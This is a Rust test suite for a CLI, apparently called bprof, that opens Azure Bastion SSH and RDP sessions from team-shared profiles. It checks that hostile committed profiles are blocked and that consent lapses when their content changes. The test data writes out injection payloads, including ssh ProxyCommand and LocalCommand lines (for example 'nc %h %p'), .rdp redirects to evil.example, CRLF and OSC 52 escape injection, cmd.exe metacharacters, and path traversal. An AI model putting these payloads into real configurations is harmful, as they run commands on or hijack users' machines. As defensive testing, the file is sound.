//! The trust boundary, tried as someone with commit access to the team's profile repository
//! would: every hostile shared set below must end with its exact exit code, name the file and
//! line, and run nothing (no az call, no canary file). Then what the person can grant: pinned
//! consent (`bprof trust`), their own user config, and what lapses.

use crate::harness::{Run, Test, one_profile};

const SUB: &str = "22222222-2222-2222-2222-222222222222";

fn ssh(extra: &str) -> String {
    one_profile(&format!(
        "  p:\n    bastion: b\n    vm: lin\n    mode: ssh\n    auth_type: aad\n{extra}"
    )) + "defaults:\n  tunnel_engine: az\n" // az's ssh: its argv is what is judged
}

/// An ssh profile that runs OpenSSH itself (the native engine: ssh-key).
fn native_ssh(extra: &str) -> String {
    one_profile(&format!(
        "  p:\n    bastion: b\n    vm: lin\n    mode: ssh\n    auth_type: ssh-key\n    username: u\n    ssh_key: /k\n{extra}"
    ))
}

fn rdp(extra: &str) -> String {
    one_profile(&format!(
        "  p:\n    bastion: b\n    vm: v\n    client: xfreerdp\n    local_port: 50321\n{extra}"
    ))
}

fn template(steps: &str) -> String {
    one_profile("  p:\n    bastion: b\n    vm: v\n    template: team\n")
        + &format!("templates:\n  team:\n{steps}")
}

/// One hostile shared set: files, the command, and what must come out.
struct Case {
    name: &'static str,
    files: Vec<(&'static str, String)>,
    args: &'static [&'static str],
    code: i32,
    stderr: &'static [&'static str],
}

fn case(
    name: &'static str,
    p_yaml: String,
    args: &'static [&'static str],
    code: i32,
    stderr: &'static [&'static str],
) -> Case {
    Case {
        name,
        files: vec![("profiles/p.yaml", p_yaml)],
        args,
        code,
        stderr,
    }
}

fn check(c: &Case) -> Run {
    let t = Test::new();
    let canary = t.path().join("CANARY");
    let mut t = t.signed_in(&[SUB]).fake_client("xfreerdp3");
    for (rel, content) in &c.files {
        t = t.file(
            rel,
            content.replace("CANARY", &canary.display().to_string()),
        );
    }
    let r = t.run_with(c.args);
    assert_eq!(
        r.code, c.code,
        "{}: exit code\n--- stderr\n{}",
        c.name, r.stderr
    );
    for needle in c.stderr {
        assert!(
            r.stderr.contains(needle),
            "{}: stderr lacks {needle:?}:\n{}",
            c.name,
            r.stderr
        );
    }
    assert!(r.calls.is_empty(), "{}: az ran: {:?}", c.name, r.calls);
    assert!(!canary.exists(), "{}: the canary was written", c.name);
    assert!(
        !t.path().join("client-argv").exists(),
        "{}: the RDP client ran",
        c.name
    );
    assert!(
        !r.stderr.contains('\u{1b}') && !r.stdout.contains('\u{1b}'),
        "{}: a raw escape reached the terminal",
        c.name
    );
    r
}

#[test]
fn hostile_shared_sets_run_nothing() {
    let run = &["run", "p"][..];
    let cases = vec![
        Case {
            name: "a committed *.local.yaml grants programs",
            files: vec![
                ("profiles/p.yaml", template("    - [touch, CANARY]\n")),
                (
                    "profiles/me.local.yaml",
                    "version: 1\nallow_programs: [touch]\n".into(),
                ),
            ],
            args: &["validate"],
            code: 65,
            stderr: &["profiles/me.local.yaml:2", "grants nothing"],
        },
        Case {
            name: "a committed *.local.yaml grants programs, at run",
            files: vec![
                ("profiles/p.yaml", template("    - [touch, CANARY]\n")),
                (
                    "profiles/me.local.yaml",
                    "version: 1\nallow_programs: [touch]\n".into(),
                ),
            ],
            args: run,
            code: 77,
            stderr: &["1 problem elsewhere", "runs `touch`"],
        },
        case(
            "a shared template runs another program",
            template("    - [touch, CANARY]\n"),
            run,
            77,
            &["template `team` at profiles/p.yaml:24", "runs `touch`"],
        ),
        case(
            "ssh ProxyCommand",
            ssh("    ssh_args: [\"-o\", \"ProxyCommand=touch CANARY\"]\n"),
            run,
            77,
            &["profiles/p.yaml:24", "ProxyCommand"],
        ),
        case(
            "ssh ProxyCommand when bprof starts OpenSSH itself",
            native_ssh("    ssh_args: [\"-o\", \"ProxyCommand=touch CANARY\"]\n"),
            run,
            77,
            &["profiles/p.yaml:26", "ProxyCommand"],
        ),
        case(
            "another ssh config file when bprof starts OpenSSH itself",
            native_ssh("    ssh_args: [-F, CANARY]\n"),
            run,
            77,
            &["profiles/p.yaml:26", "`-F`"],
        ),
        case(
            "ssh LocalCommand",
            ssh("    ssh_args: [-o, PermitLocalCommand=yes, -o, \"LocalCommand=touch CANARY\"]\n"),
            run,
            77,
            &["profiles/p.yaml:24", "LocalCommand"],
        ),
        case(
            "ssh PKCS11Provider, any case",
            ssh("    ssh_args: [\"-opkcs11provider=/tmp/x.so\"]\n"),
            run,
            77,
            &["profiles/p.yaml:24", "pkcs11provider"],
        ),
        case(
            "ssh -F",
            ssh("    ssh_args: [-F, /tmp/evil_config]\n"),
            run,
            77,
            &["profiles/p.yaml:24", "`-F`"],
        ),
        case(
            "ssh -R hands the VM this machine",
            ssh("    ssh_args: [-R, \"8080:localhost:80\"]\n"),
            run,
            77,
            &["profiles/p.yaml:24", "`-R`"],
        ),
        case(
            "ssh ProxyCommand from defaults",
            ssh("").replace(
                "defaults:\n",
                "defaults:\n  ssh_args: [\"-oProxyCommand=touch CANARY\"]\n",
            ),
            run,
            77,
            &["profiles/p.yaml:25", "defaults.ssh_args"],
        ),
        case(
            "az extension add from a template",
            template(
                "    - [az, extension, add, --source, \"https://example.invalid/x.whl\", --yes]\n",
            ),
            run,
            77,
            &["profiles/p.yaml:24", "runs `az extension add`"],
        ),
        case(
            "the environment in a template",
            template(
                "    - [az, rest, --url, \"https://example.invalid\", --body, \"{{env.HOME}}\"]\n",
            ),
            run,
            65,
            &["unknown variable `env.HOME`", "no environment variables"],
        ),
        case(
            "az login as another identity from a template",
            template("    - [az, login, --service-principal, -u, x, -p, y, --tenant, \"{{tenant.id}}\"]\n"),
            run,
            77,
            &["profiles/p.yaml:24", "--service-principal"],
        ),
        case(
            "az login to another tenant from a template",
            template("    - [az, login, --tenant, 00000000-0000-0000-0000-0000000000ee]\n"),
            run,
            77,
            &["not the profile's tenant"],
        ),
        case(
            ".rdp alternate full address",
            rdp("    rdp:\n      properties: {\"alternate full address:s\": \"evil.example:3389\"}\n"),
            run,
            77,
            &["profiles/p.yaml:25", "alternate full address"],
        ),
        case(
            ".rdp gateway, odd case and spaces",
            rdp("    rdp:\n      properties: {\"GatewayHostname:s\": \"evil.example\"}\n"),
            &["rdp", "p", "-o", "-"],
            77,
            &["profiles/p.yaml:25", "gatewayhostname"],
        ),
        case(
            ".rdp drives from a shared file",
            rdp("    rdp:\n      drives: true\n"),
            run,
            77,
            &["profiles/p.yaml:25", "local drives"],
        ),
        case(
            ".rdp smart cards from a shared file",
            rdp("    rdp:\n      properties: {\"redirectsmartcards:i\": 1}\n"),
            run,
            77,
            &["redirectsmartcards"],
        ),
        case(
            "a user name that injects .rdp lines",
            rdp("    username: \"alice\\r\\nfull address:s:evil.example:3389\"\n"),
            run,
            65,
            &["profiles/p.yaml:24", "control character U+000D"],
        ),
        case(
            "a secret property in any case",
            rdp("    rdp:\n      properties: {\"Password 51:b\": \"00ff\"}\n"),
            run,
            65,
            &["would store a secret"],
        ),
        case(
            "an OSC 52 escape in a description",
            rdp("    description: \"\\e]52;c;ZXZpbA==\\a\"\n"),
            &["validate"],
            65,
            &["profiles/p.yaml:24", "U+001B"],
        ),
        case(
            "an OSC 52 escape in a description, listed",
            rdp("    description: \"\\e]52;c;ZXZpbA==\\a\"\n"),
            &["list"],
            0,
            &["1 problem in the profile set"],
        ),
        case(
            "an escape in a template token",
            template("    - [az, network, bastion, rdp, \"\\e[2K\\rfake\"]\n"),
            run,
            65,
            &["control character"],
        ),
        case(
            "a tenant login that signs in as someone else",
            ssh("").replace(
                "    subscription: 22222222-2222-2222-2222-222222222222\nbastions",
                "    subscription: 22222222-2222-2222-2222-222222222222\n    login: [--service-principal, --username, x, --password, y]\nbastions",
            ),
            &["plan", "p", "--format", "json"],
            77,
            &["profiles/p.yaml:6", "--service-principal"],
        ),
        case(
            "az --debug from defaults prints tokens",
            ssh("").replace("defaults:\n", "defaults:\n  extra_args: [--debug]\n"),
            run,
            77,
            &["profiles/p.yaml:25", "access tokens"],
        ),
        case(
            "a user name that is an ssh option",
            one_profile("  p:\n    bastion: b\n    vm: lin\n    mode: ssh\n    auth_type: password\n    username: \"-oProxyCommand=touch CANARY\"\n"),
            run,
            65,
            &["profiles/p.yaml:24", "begins with `-`"],
        ),
        case(
            "cmd.exe syntax in a user name on Windows",
            one_profile("  p:\n    bastion: b\n    vm: lin\n    mode: ssh\n    auth_type: password\n    username: \"a&calc\"\n"),
            &["plan", "p", "--os", "windows"],
            65,
            &["profiles/p.yaml:24", "cmd.exe"],
        ),
        case(
            "cmd.exe syntax in ssh arguments on Windows",
            ssh("    ssh_args: [\"echo %USERPROFILE%\"]\n"),
            &["plan", "p", "--os", "windows"],
            65,
            &["profiles/p.yaml:24", "cmd.exe"],
        ),
        case(
            "a VM name that reroutes a resource id",
            one_profile("  p:\n    bastion: b\n    vm: v\n")
                .replace("name: vm-1", "name: \"../../x?y\""),
            run,
            65,
            &["profiles/p.yaml:14", "not an Azure resource name"],
        ),
        case(
            "a 75,000-byte template token, quoted short",
            template(&format!(
                "    - [az, network, bastion, rdp, \"{}\"]\n",
                "{{#if vm.name}}".repeat(5000)
            )),
            run,
            65,
            &["at most 2048", "{{#if..."],
        ),
        case(
            "a template whose program is a value from a file",
            template("    - [\"{{vm.name}}\", CANARY]\n").replace("name: vm-1", "name: touch"),
            run,
            65,
            &["the program to run"],
        ),
        case(
            "a value that becomes an option through a template",
            template("    - [az, network, bastion, rdp, \"{{profile.description}}\"]\n")
                .replace("    template: team\n", "    template: team\n    description: \"--debug\"\n"),
            run,
            65,
            &["begins with `-`"],
        ),
        case(
            "a partial in a template",
            template("    - [az, network, bastion, rdp, \"{{> evil}}\"]\n"),
            run,
            65,
            &["partials"],
        ),
        case(
            "100 nested blocks in a template",
            template(&format!(
                "    - [az, network, bastion, rdp, \"{}\"]\n",
                "{{#if vm.name}}".repeat(100)
            )),
            run,
            65,
            &["nested more than"],
        ),
    ];
    for c in &cases {
        check(c);
    }
}

#[test]
fn consent_is_pinned_to_the_content_and_lapses_when_it_changes() {
    let hostile = ssh("    ssh_args: [\"-o\", \"ProxyCommand=nc %h %p\"]\n");
    let t = Test::new()
        .file("profiles/p.yaml", &hostile)
        .signed_in(&[SUB]);
    t.run_with(&["run", "p"]).code(77);
    // validate says so, but stays green: a team's CI has no consents
    let v = t.run_with(&["validate", "--format", "json"]);
    v.code(0);
    assert_eq!(v.json()["problems"][0]["severity"], "warning");
    assert_eq!(v.json()["problems"][0]["line"], 24);
    // the review shows the content exactly
    t.run_with(&["trust", "show", "p"])
        .code(0)
        .stdout_has("ProxyCommand=nc %h %p")
        .stdout_has("not approved");
    // no terminal, no --yes: nothing is approved
    t.run_with(&["trust", "allow", "p"]).code(64);
    t.run_with(&["run", "p"]).code(77);
    t.run_with(&["trust", "allow", "p", "--yes"])
        .code(0)
        .stderr_has("approved 1 item");
    let ok = t.run_with(&["run", "p"]);
    ok.code(0);
    assert!(ok.calls[0].contains(&"ProxyCommand=nc %h %p".to_string()));
    t.run_with(&["plan", "p"])
        .code(0)
        .stdout_has("`ssh_args`: profiles/p.yaml:24 (shared, approved by you)");
    // the team changes it: the consent lapses, and the change is shown
    std::fs::write(
        t.path().join("profiles/p.yaml"),
        hostile.replace("nc %h %p", "sh -c evil"),
    )
    .unwrap();
    t.run_with(&["run", "p"])
        .code(77)
        .stderr_has("changed since you approved it");
    let shown = t.run_with(&["trust", "show", "p"]);
    shown
        .code(0)
        .stdout_has("-   \"ProxyCommand=nc %h %p\"")
        .stdout_has("+   \"ProxyCommand=sh -c evil\"")
        // the element that changed, not the whole list
        .stdout_has("\n      \"-o\",\n");
    assert!(!shown.stdout.contains("-   \"-o\""), "{}", shown.stdout);
    t.run_with(&["trust", "revoke", "--all"])
        .code(0)
        .stderr_has("revoked 1 consent");
    let listed = t.run_with(&["trust", "list", "--format", "json"]);
    listed.code(0);
    assert_eq!(listed.json()["requests"][0]["status"], "not approved");
    // the consent file is machine-written, beside the user config, never local.yaml
    assert!(t.path().join("config/bprof/trust.json").exists());
    assert!(!t.path().join("config/bprof/local.yaml").exists());
}

#[test]
fn only_the_persons_own_config_grants_and_only_while_it_is_theirs() {
    let own = "version: 1\nprofiles:\n  p:\n    ssh_args: [\"-oProxyCommand=nc %h %p\"]\n";
    let t = Test::new()
        .file("profiles/p.yaml", ssh(""))
        .file("config/bprof/local.yaml", own)
        .signed_in(&[SUB]);
    t.run_with(&["plan", "p"])
        .code(0)
        .stdout_has("`ssh_args`: config/bprof/local.yaml:4 (your user config)");
    // the same file inside a git work tree grants nothing
    std::fs::create_dir(t.path().join("config/.git")).unwrap();
    t.run_with(&["plan", "p"])
        .code(77)
        .stderr_has("your user config grants nothing")
        .stderr_has("git work tree");
    std::fs::remove_dir(t.path().join("config/.git")).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let f = t.path().join("config/bprof/local.yaml");
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o666)).unwrap();
        t.run_with(&["plan", "p"])
            .code(77)
            .stderr_has("writable by others");
    }
}

#[test]
fn files_for_teammates_hold_the_shared_values_only() {
    let t = Test::new()
        .file(
            "profiles/p.yaml",
            rdp("    rdp:\n      properties: {\"smart sizing:i\": 1}\n"),
        )
        .file(
            "profiles/me.local.yaml",
            "version: 1\nprofiles:\n  p:\n    username: alice@contoso.com\n",
        );
    let out = t.command().args(["rdp", "p", "-o", "-"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    let text = utf16(&out.stdout);
    assert!(!text.contains("alice"), "{text}");
    assert!(text.contains("full address:s:127.0.0.1:50321"), "{text}");
    assert!(text.contains("smart sizing:i:1"), "{text}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("left out your personal values") && stderr.contains("username"),
        "{stderr}"
    );
    let out = t
        .command()
        .args(["rdp", "p", "-o", "-", "--personal"])
        .output()
        .unwrap();
    assert!(utf16(&out.stdout).contains("username:s:alice@contoso.com"));
}

fn utf16(bytes: &[u8]) -> String {
    let units: Vec<u16> = bytes
        .get(2..)
        .unwrap_or_default()
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16_lossy(&units)
}

#[test]
fn a_login_that_changes_the_default_subscription_is_set_back() {
    let before = "00000000-0000-0000-0000-0000000000d1";
    let t = Test::new().file("profiles/p.yaml", ssh("")).file(
        "azure/azureProfile.json",
        format!("{{\"subscriptions\": [{{\"id\": \"{before}\", \"isDefault\": true}}]}}"),
    );
    let plan = t.run_with(&["plan", "p", "--format", "json"]);
    plan.code(0);
    assert_eq!(plan.json()["steps"][1]["name"], "restore-default");
    assert_eq!(plan.json()["steps"][1]["when"], "login-changed-default");
    // az's login makes the profile's subscription the default: bprof sets it back, once
    let r = t
        .command()
        .env("FAKE_AZ_LOGIN_DEFAULT", SUB)
        .args(["run", "p"])
        .output()
        .unwrap();
    assert_eq!(r.status.code(), Some(0));
    let calls = t.calls();
    assert_eq!(calls[0][0], "login");
    assert_eq!(calls[1], ["account", "set", "--subscription", before]);
    assert_eq!(&calls[2][..3], ["network", "bastion", "ssh"]);
    assert_eq!(calls.len(), 3);
}

#[test]
fn a_login_that_keeps_the_default_runs_no_account_set() {
    let before = "00000000-0000-0000-0000-0000000000d1";
    let t = Test::new().file("profiles/p.yaml", ssh("")).file(
        "azure/azureProfile.json",
        format!("{{\"subscriptions\": [{{\"id\": \"{before}\", \"isDefault\": true}}]}}"),
    );
    t.run_with(&["run", "p"]).code(0);
    let calls = t.calls();
    assert_eq!(calls.len(), 2, "{calls:?}");
    assert_eq!(calls[0][0], "login");
    assert_eq!(&calls[1][..3], ["network", "bastion", "ssh"]);
}

#[test]
fn a_debug_flag_of_ones_own_is_run_with_a_warning() {
    let t = Test::new()
        .file("profiles/p.yaml", ssh(""))
        .signed_in(&[SUB]);
    let r = t.run_with(&["run", "p", "--", "--debug"]);
    r.code(0).stderr_has("access tokens");
    assert!(r.calls[0].contains(&"--debug".to_string()));
}

mod destination;
